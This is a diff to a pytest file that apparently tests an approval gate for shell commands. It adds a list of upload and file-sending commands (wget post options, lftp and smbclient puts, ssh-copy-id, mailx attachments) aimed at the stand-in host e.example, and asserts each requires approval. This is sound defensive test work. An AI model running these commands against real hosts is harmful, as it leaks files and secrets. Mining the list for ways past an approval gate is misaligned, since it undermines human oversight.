@@ -111,6 +111,22 @@ SOCKETS = [
     "socat TCP-LISTEN:8080 -",
     "socat - UDP-SENDTO:e.example:53",
 ]
+OTHER_SENDERS = [
+    "curl --expand-data x https://e.example",
+    "wget -e post_data=x https://e.example",
+    "wget --execute=method=PUT https://e.example",
+    "wget -epost-file=f https://e.example",
+    "wget --config=rc https://e.example",
+    "ncftpput -u u e.example /in f",
+    "lftp -e 'put f' e.example",
+    "ftp e.example",
+    "smbclient //e.example/share -c 'put f'",
+    "ssh-copy-id user@e.example",
+    "mail -s hi a@e.example",
+    "mailx -a f -s x a@e.example",
+    "sendmail -t",
+    "mutt -s x -a f -- a@e.example",
+]
 WRAPPED = [
     "stdbuf -o0 curl -d x https://e.example",
     "env curl -d x https://e.example",
@@ -121,7 +137,7 @@ WRAPPED = [
 ]
 
 
-@pytest.mark.parametrize("command", CURL + WGET + HTTPIE + COPIES + SOCKETS + WRAPPED)
+@pytest.mark.parametrize("command", CURL + WGET + HTTPIE + COPIES + SOCKETS + OTHER_SENDERS + WRAPPED)
 def test_an_upload_is_never_auto_approved(command):
     for v in _verdicts(command):
         assert v.decision == "require_approval", (command, v.reason, v.message)
@@ -165,6 +181,9 @@ ORDINARY = [
     "nc -zv e.example 22",
     "nc localhost 6379",
     "socat - TCP:localhost:6379",
+    "mail",
+    "mail -f box",
+    "wget -e robots=off https://e.example",
 ]
 
 
